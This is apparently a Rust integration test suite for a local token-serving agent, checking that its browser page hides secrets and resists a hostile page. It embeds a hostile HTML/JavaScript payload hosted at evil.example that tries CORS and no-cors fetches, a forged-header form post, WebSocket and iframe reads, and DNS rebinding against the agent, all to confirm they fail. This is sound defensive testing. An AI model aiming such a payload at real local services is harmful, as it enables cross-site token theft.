//! The page in a real browser, and what a hostile page in that browser can do to the agent.

use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};

use rustix::process::{Pid, Signal, kill_process_group};

use crate::agent::{Agent, body, status};
use crate::support::{Fixed, Ran, User, has};

/// Returns a headless Chromium without a profile, if one is installed.
fn chromium(user: &User, arguments: &[&str]) -> Option<Command> {
    let program = ["chromium-headless-shell", "chromium", "google-chrome"].into_iter().find(|program| has(program))?;
    let profile = format!("--user-data-dir={}", user.dir.0.join("browser").display());
    let mut command = user.other_command(program, &["--headless", "--disable-gpu", "--no-proxy-server", &profile]);
    // Its sandbox does not start for root, as whom tests run in a container. Only pages of this test are opened.
    command.arg("--no-sandbox").args(arguments).stdout(Stdio::piped()).stderr(Stdio::null());
    Some(command)
}

/// Every other name resolves to this machine.
const REBOUND: &str = "--host-resolver-rules=MAP * 127.0.0.1";

/// Opens a page, and returns the document.
fn open(user: &User, url: &str) -> Option<String> {
    let mut command = chromium(user, &["--dump-dom", REBOUND, url])?;
    Some(Ran::of(command.output().unwrap()).out)
}

/// A browser with all its processes, which are killed on drop.
struct Browser(Child);

impl Drop for Browser {
    fn drop(&mut self) {
        // The program may be a script that has started the browser.
        let _ = kill_process_group(Pid::from_child(&self.0), Signal::KILL);
        let _ = self.0.wait();
    }
}

/// Runs a browser until the condition holds or the browser exits.
fn run_until(mut command: Command, mut holds: impl FnMut() -> bool) {
    let mut browser = Browser(command.process_group(0).spawn().unwrap());
    while !holds() && browser.0.try_wait().unwrap().is_none() {
        std::thread::yield_now();
    }
}

/// An agent with a page and two accounts: one with a token, and one that the issuer refuses.
fn agent(issuer: &Fixed) -> (User, Agent, String) {
    let mut user = issuer.user();
    for name in ["ACCOUNT_NAME", "USER_NAME", "PASSWORD", "APP_ID", "APP_SECRET", "DEVICE_ID"] {
        user.set(&format!("ZENOTI_{name}"), &format!("hunter2-{name}"));
    }
    user.set("ZENOTI_URL", &issuer.url);
    let agent = Agent::start(&user, &["--page", "--listen", "127.0.0.1:0"]);
    let secret = std::fs::read_to_string(user.state().join("agent.secret")).unwrap().trim_end().to_owned();
    for (account, code) in [("voucherify", 200), ("zenoti", 503)] {
        let response = agent.request(&format!("GET /v1/accounts/{account}/header"), &[&secret], "");
        assert_eq!(status(&response), code, "{response}");
    }
    (user, agent, secret)
}

/// Returns the value of a metric. The name includes the labels.
fn metric(agent: &Agent, secret: &str, name: &str) -> u64 {
    let response = agent.request("GET /metrics", &[secret], "");
    let value = body(&response).lines().find_map(|line| line.strip_prefix(name)?.trim().parse().ok());
    value.unwrap_or_default()
}

#[test]
#[ignore = "needs Chromium; .ci/run installs it"]
fn a_browser_shows_states_lifetimes_and_events_and_no_secret() {
    let (user, agent, secret) = agent(&Fixed::token("invented-token"));
    let url = format!("http://127.0.0.1:{}/", agent.port.unwrap());
    let Some(page) = open(&user, &url) else { return };
    for text in ["<h2>voucherify</h2>", ">fresh</strong>", "in 14m ", " renewed<", "<h2>zenoti</h2>", " failed<"] {
        assert!(page.contains(text), "{text} in {page}");
    }
    let secret = secret.rsplit_once(' ').unwrap().1;
    for text in ["invented", "hunter2", secret] {
        assert!(!page.contains(text), "{text} in {page}");
    }
}

#[test]
#[ignore = "needs Chromium; .ci/run installs it"]
fn the_page_loads_itself_again_in_a_browser() {
    let (user, agent, secret) = agent(&Fixed::token("invented-token"));
    let url = format!("http://127.0.0.1:{}/", agent.port.unwrap());
    let loads = || metric(&agent, &secret, "freshtoken_agent_requests_total{route=\"page\",status=\"200\"}");
    let denied = || metric(&agent, &secret, "freshtoken_agent_denied_total{reason=\"browser\"}");
    // In the browser's virtual time, the ten seconds between two loads pass at once.
    let Some(command) = chromium(&user, &["--dump-dom", "--virtual-time-budget=60000", &url]) else { return };
    run_until(command, || loads() >= 3 || denied() > 0);
    assert!(loads() >= 3 && denied() == 0, "{} loads, {} denied", loads(), denied());
}

/// What a page can try: requests with and without CORS, with a preflight, by a form, an image, a frame and a WebSocket.
const ATTACK: &str = r#"<!doctype html><iframe id="frame" src="AGENT/"></iframe><img src="AGENT/metrics">
<form method="post" enctype="text/plain" target="answer" action="AGENT/v1/accounts/voucherify/rejected">
<textarea name="Authorization: Bearer invented-token&#10;a">b</textarea></form><iframe name="answer"></iframe>
<script>
const seen = [];
const attempt = async (name, work) => {
  let text;
  try { text = await work() } catch { text = "" }
  seen.push(`${name}: ${text ? "read " + text : "nothing"}.`);
};
const text = async (url, options) => (await fetch(url, options)).text();
(async () => {
  document.forms[0].submit();
  await attempt("own page", () => text("/").then(text => text.length > 0));
  for (const base of ["AGENT", "REBOUND"]) {
    for (const path of ["/", "/metrics", "/healthz", "/v1/accounts", "/v1/accounts/voucherify/header"]) {
      await attempt("cors", () => text(base + path));
      await attempt("no-cors", () => text(base + path, { mode: "no-cors" }));
      await attempt("preflight", () => text(base + path, { headers: { "Freshtoken-Request": "1" } }));
    }
    const report = { method: "POST", mode: "no-cors", body: "Authorization: Bearer invented-token\n" };
    await attempt("report", () => text(base + "/v1/accounts/voucherify/rejected", report));
    await attempt("websocket", () => new Promise((open, fail) => {
      const socket = new WebSocket(base.replace("http", "ws") + "/v1/accounts/voucherify/header");
      socket.onopen = () => open("open");
      socket.onerror = fail;
    }));
  }
  for (const frame of document.querySelectorAll("iframe"))
    await attempt("frame", () => frame.contentDocument.body.innerText);
  await fetch("/", { method: "POST", body: seen.join("\n") + "\nfinished" });
})();
</script>"#;

#[test]
#[ignore = "needs Chromium; .ci/run installs it"]
fn a_hostile_page_reads_and_changes_nothing() {
    let issuer = Fixed::token("invented-token");
    let (user, agent, secret) = agent(&issuer);
    let requests = issuer.count();
    let port = agent.port.unwrap();
    let rebound = format!("http://rebound.example:{port}");
    let attack = ATTACK.replace("AGENT", &format!("http://127.0.0.1:{port}")).replace("REBOUND", &rebound);
    // From another site, and from another port of the same host.
    for host in ["evil.example", "127.0.0.1"] {
        let hostile = Fixed::response("200 OK\r\ncontent-type: text/html", &attack);
        let Some(command) = chromium(&user, &[REBOUND, &hostile.url.replace("127.0.0.1", host)]) else { return };
        run_until(command, || hostile.last_body().ends_with("finished"));
        let seen = hostile.last_body();
        assert!(seen.contains("own page: read true."), "the attack did not run: {seen}");
        let read = seen.matches(": read ").count();
        assert_eq!(read, 1, "only its own page: {seen}");
    }
    // After a rebinding of its name, a page is of the same origin as the agent, and a request has no header of a browser.
    for path in ["/", "/healthz", "/metrics"] {
        let seen = open(&user, &format!("{rebound}{path}")).unwrap();
        assert!(seen.contains("\"error\":\"host\"") && !seen.contains("fresh</strong>"), "{seen}");
    }
    for reason in ["browser", "host"] {
        let denied = metric(&agent, &secret, &format!("freshtoken_agent_denied_total{{reason=\"{reason}\"}}"));
        assert!(denied >= 10, "{denied} denied for {reason}");
    }
    for name in ["rejected_total", "agent_requests_total{route=\"rejected\""] {
        let response = agent.request("GET /metrics", &[&secret], "");
        let is_zero = |line: &str| !line.starts_with(&format!("freshtoken_{name}")) || line.ends_with(" 0");
        assert!(body(&response).lines().all(is_zero), "a page reported a token: {response}");
    }
    let response = agent.request("GET /v1/accounts/voucherify/header", &[&secret], "");
    assert_eq!((body(&response), issuer.count()), ("Authorization: Bearer invented-token\n", requests));
}
